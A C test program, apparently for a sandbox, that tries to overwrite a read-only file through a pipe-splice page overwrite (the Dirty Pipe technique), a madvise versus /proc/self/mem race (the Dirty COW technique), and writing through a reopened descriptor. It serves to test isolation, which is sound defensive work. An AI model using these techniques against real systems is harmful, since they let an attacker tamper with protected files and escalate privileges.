/*
 * Tries to change a file that it may only read, by what goes past the file's own rights: pipes
 * that borrow its pages, private mappings, write on a reopened descriptor. Exits with 0 after all.
 */
#define _GNU_SOURCE
#include "sandboxed.h"

#include <fcntl.h>
#include <pthread.h>
#include <stdio.h>
#include <string.h>
#include <sys/mman.h>
#include <sys/stat.h>
#include <sys/uio.h>
#include <unistd.h>

static const char mark[] = "OVERWRITTEN";
static char *mapped;
static const char *path;
static volatile int over;

static void borrow_pages(int fd) {
  int pipes[2];
  if (pipe(pipes) < 0) return;
  int size = fcntl(pipes[1], F_GETPIPE_SZ);
  static char junk[4096];
  for (int left = size; left > 0; left -= 4096)
    if (write(pipes[1], junk, 4096) < 0) return;
  for (int left = size; left > 0; left -= 4096)
    if (read(pipes[0], junk, 4096) < 0) return;
  loff_t from = 0;
  if (splice(fd, &from, pipes[1], NULL, 1, 0) == 1) {
    ssize_t ignored = write(pipes[1], mark, sizeof mark);
    (void)ignored;
  }
  struct iovec piece = {mapped, 4096};
  if (vmsplice(pipes[1], &piece, 1, SPLICE_F_GIFT) > 0) memcpy(mapped, mark, sizeof mark);
  close(pipes[0]);
  close(pipes[1]);
}

static void *forget_pages(void *unused) {
  while (!over) madvise(mapped, 4096, MADV_DONTNEED);
  return unused;
}

static void race_private_copy(void) {
  pthread_t thread;
  if (pthread_create(&thread, NULL, forget_pages, NULL)) return;
  int memory = open("/proc/self/mem", O_RDWR);
  for (int i = 0; i < 20000 && memory >= 0; i++) {
    ssize_t ignored = pwrite(memory, mark, sizeof mark, (off_t)(unsigned long)mapped);
    (void)ignored;
  }
  over = 1;
  pthread_join(thread, NULL);
  if (memory >= 0) close(memory);
}

static void reopen(int fd) {
  char name[64];
  snprintf(name, sizeof name, "/proc/self/fd/%d", fd);
  int again = open(name, O_WRONLY);
  if (again < 0) again = open(path, O_WRONLY);
  if (again < 0) return;
  ssize_t ignored = write(again, mark, sizeof mark);
  (void)ignored;
  close(again);
}

int main(int argc, char **argv) {
  if (argc < 2) return 2;
  path = argv[1];
  int fd = open(path, O_RDONLY);
  if (fd < 0) return 3;
  mapped = mmap(NULL, 4096, PROT_READ | PROT_WRITE, MAP_PRIVATE, fd, 0);
  if (mapped == MAP_FAILED) return 4;
  borrow_pages(fd);
  race_private_copy();
  /* Root may open it for writing: then it writes to its own copy. That comes last. */
  if (argc > 2 && strcmp(argv[2], "reopen") == 0) reopen(fd);
  return 0;
}
